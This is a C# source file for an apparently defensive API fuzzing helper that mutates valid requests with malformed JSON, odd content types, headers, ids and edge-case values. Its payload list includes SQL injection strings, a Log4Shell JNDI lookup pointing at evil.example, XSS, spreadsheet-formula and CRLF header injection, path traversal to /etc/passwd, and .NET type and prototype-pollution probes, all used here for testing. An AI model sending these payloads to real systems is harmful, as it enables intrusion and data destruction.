using System.Text;
using System.Text.Json.Nodes;

namespace PeerReview.TestKit.Api;

/// <summary>Ways to bend a valid request. Each returns what it did, so that a failure can be read.</summary>
/// <param name="random">Seeded: the same seed bends the same.</param>
/// <param name="mark">What texts that are typed begin with.</param>
/// <param name="foreign">Ids of another network.</param>
public sealed class Hostility(Random random, string mark, IReadOnlyList<string> foreign)
{
    private static readonly string[] Texts =
    [
        "", " ", "\0", "before\0after", "null", "undefined", "NaN", "-1", "0", "1e400", "99999999999999999999", "-9223372036854775809", "true", "[]", "{}",
        "' OR 1=1 --", "\"; DROP TABLE reviews; --", "%' ESCAPE '\\", "$1", "{0}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "=HYPERLINK(\"//evil\")",
        "../../../../etc/passwd", "C:\\x", "a\r\nSet-Cookie: x=1", "\u202Egnp", "\uFEFF", "e\u0301", "\uD83D\uDE00", "\uFFFE", "\u2028", "İI", "ﬁ", "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff", "not-a-uuid", "2026-02-30", "0001-01-01", "9999-12-31", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00+14:00", "2026-01-01T25:00:00Z", "25:61", "24:00:00",
        "infinity", "-infinity", "Infinity", "epoch", "1,000", "١٢٣", "0x10", "1e2", "*", "W/\"1\"", "\"1\"", "\"99999999999999999999\"",
    ];

    private static readonly string[] RawJson =
    [
        "", " ", "null", "true", "[]", "\"text\"", "1", "{", "{\"", "{}}", "[[[[", "{\"a\":}", "{'a':1}", "{\"a\":1,}", "{/* c */}", "{\"a\":NaN}", "{\"a\":1e999}", "{\"a\":\"\\ud800\"}", "{\"\\ud800\":1}",
        "{\"a\":\"\\u0000\"}", "{\"\\u0000\":1}", "\u00ff\u00fe", "{\"a\":\"\t\"}", "{\"a\":\"\\x\"}", "{\"__proto__\":{}}", "{\"$type\":\"System.IO.FileInfo\"}", "{\"$id\":\"1\",\"$ref\":\"1\"}",
    ];

    private static readonly (string, string?)[] Media =
    [
        ("nothing", null), ("text/plain", "text/plain"), ("xml", "application/xml"), ("form", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data; boundary=x"), ("no boundary", "multipart/form-data"),
        ("json utf-16", "application/json; charset=utf-16"), ("json utf-7", "application/json; charset=utf-7"), ("json odd charset", "application/json; charset=none-such"), ("json twice", "application/json, application/json"),
        ("vendor json", "application/vnd.x+json"), ("csv", "text/csv"), ("csv odd charset", "text/csv; charset=none-such"), ("rubbish", ";;;"),
    ];

    /// <summary>Bends a call once; says how.</summary>
    public string Bend(ApiCall call)
    {
        List<Func<string>> ways = [() => BendHeader(call), () => BendQuery(call)];
        if (call.PathValues.Count > 0)
            ways.AddRange([() => BendPath(call), () => BendPath(call)]);
        if (call.Body is not null)
            ways.AddRange([() => BendMedia(call), () => SendRaw(call)]);
        if (call.Json is not null)
            ways.AddRange([() => BendMember(call), () => BendMember(call), () => BendMember(call), () => BendMember(call), () => AddMember(call), () => RemoveMember(call)]);
        return Pick(ways)();
    }

    private string BendMember(ApiCall call)
    {
        var places = Places(call.Json!).ToList();
        if (places.Count == 0)
            return SendRaw(call);
        var place = Pick(places);
        // A foreign id where a text belongs would only be shown again to whoever wrote it.
        var takesId = place is JsonValue known && known.TryGetValue<string>(out var text) && Guid.TryParse(text, out _);
        var (name, value) = AnyValue(takesId);
        var path = place.GetPath();
        if (ReferenceEquals(place, call.Json))
            call.SendJson(value);
        else
        {
            place.ReplaceWith(value);
            call.SendJson(call.Json);
        }

        return $"{path} = {name}";
    }

    private string AddMember(ApiCall call)
    {
        var owner = Pick(Places(call.Json!).Append(call.Json!).OfType<JsonObject>().DefaultIfEmpty(new JsonObject()).ToList());
        var name = Pick(["networkId", "id", "state", "price", "isAdmin", "version", "unknown", "", "$type", "constructor", $"{mark} member"]);
        owner.TryAdd(name, JsonValue.Create($"{mark} extra"));
        call.SendJson(call.Json);
        return $"{owner.GetPath()} + {name}";
    }

    private string RemoveMember(ApiCall call)
    {
        var members = Places(call.Json!).Where(place => place.Parent is JsonObject).ToList();
        if (members.Count == 0)
            return SendRaw(call);
        var gone = Pick(members);
        var path = gone.GetPath();
        gone.Parent!.AsObject().Remove(gone.GetPropertyName());
        call.SendJson(call.Json);
        return $"{path} left out";
    }

    private string SendRaw(ApiCall call)
    {
        var text = Pick(RawJson);
        var (name, bytes) = random.Next(6) switch
        {
            0 => ("invalid UTF-8", (byte[])[0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
            1 => ("UTF-16", Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(call.Body!))),
            2 => ("a BOM", [.. Encoding.UTF8.Preamble, .. call.Body!]),
            3 => ("cut short", call.Body![..(call.Body!.Length / 2)]),
            4 => ("nested deep", Encoding.ASCII.GetBytes(new string('[', 5_000) + new string(']', 5_000))),
            _ => ($"raw {text}", Encoding.Latin1.GetBytes(text)),
        };
        call.SendRaw(bytes, call.ContentType);
        return name;
    }

    private string BendMedia(ApiCall call)
    {
        var (name, media) = Pick(Media);
        call.ContentType = media;
        return $"content type {name}";
    }

    private string BendPath(ApiCall call)
    {
        var name = Pick(call.PathValues.Keys.ToList());
        // U+0000 does not get past any web server.
        call.PathValues[name] = random.Next(4) == 0 ? Pick([.. foreign, Guid.NewGuid().ToString()]) : Pick([.. Texts.Where(text => text.Length > 0 && !text.Contains('\0', StringComparison.Ordinal)), new string('a', 3_000), "a/b", "%2e%2e", "a%00b"]);
        return $"{{{name}}} = {Short(call.PathValues[name])}";
    }

    private string BendQuery(ApiCall call)
    {
        var queries = call.Operation.Parameters.Where(parameter => parameter.In == "query").Select(parameter => parameter.Name).Append("unknown").ToList();
        var name = Pick(queries);
        var value = random.Next(5) == 0 && foreign.Count > 0 ? Pick(foreign) : Pick([.. Texts, new string('a', 3_000)]);
        if (random.Next(4) != 0)
            call.Query.RemoveAll(one => one.Name == name);
        call.Query.Add((name, value));
        return $"?{name}={Short(value)}";
    }

    private string BendHeader(ApiCall call)
    {
        var name = Pick(["Idempotency-Key", "If-Match", "If-None-Match", "Accept", "Accept-Encoding", "X-Forwarded-For", "X-Network-Id", "Range", "Content-Language", "traceparent"]);
        string? value = random.Next(3) == 0 ? null : Pick(["", "*", "\"1\"", "W/\"1\"", "1", "\"1\", \"2\"", "\"-1\"", "\"abc\"", "\"99999999999999999999\"", new string('k', 256), new string('k', 4_000), "a b", "text/html", "bytes=0-1", "00-0-0-0"]);
        call.SetHeader(name, value);
        return $"{name}: {Short(value ?? "(none)")}";
    }

    private (string Name, JsonNode? Value) AnyValue(bool takesId) => random.Next(12) switch
    {
        0 => ("null", null),
        1 => ("true", JsonValue.Create(true)),
        2 => ("an object", new JsonObject { [$"{mark} key"] = 1 }),
        3 => ("a list", new JsonArray(1, null, $"{mark} item")),
        4 => ("an empty list", new JsonArray()),
        5 => AnyNumber(),
        6 => ("100,000 characters", JsonValue.Create(mark + new string('x', 100_000))),
        7 => ("3,000 items", new JsonArray([.. Enumerable.Range(0, 3_000).Select(_ => (JsonNode)JsonValue.Create(Guid.NewGuid().ToString()))])),
        8 when takesId && foreign.Count > 0 => ("a foreign id", JsonValue.Create(Pick(foreign))),
        9 => ("a new id", JsonValue.Create(Guid.CreateVersion7().ToString())),
        10 => Twice(),
        _ => AnyText(),
    };

    private (string, JsonNode?) AnyNumber()
    {
        var text = Pick(["0", "-1", "1.5", "2147483648", "-2147483649", "9223372036854775808", "1e308", "1e-320", "99999999999999999999999999999", "0.1e1"]);
        return (text, JsonNode.Parse(text));
    }

    private static (string, JsonNode?) Twice()
    {
        var id = Guid.CreateVersion7().ToString();
        return ("a list of one twice", new JsonArray(id, id));
    }

    private (string, JsonNode?) AnyText()
    {
        var text = Pick(Texts);
        return ($"\"{Short(text)}\"", JsonValue.Create(random.Next(2) == 0 ? text : $"{mark} {text}"));
    }

    private static IEnumerable<JsonNode> Places(JsonNode node) => node switch
    {
        JsonObject members => members.Where(member => member.Value is not null).SelectMany(member => Places(member.Value!).Prepend(member.Value!)),
        JsonArray items => items.Where(item => item is not null).SelectMany(item => Places(item!).Prepend(item!)),
        _ => [],
    };

    private T Pick<T>(IReadOnlyList<T> of) => of[random.Next(of.Count)];

    private static string Short(string text) => text.Length <= 40 ? text : $"{text[..20]}… ({text.Length})";
}
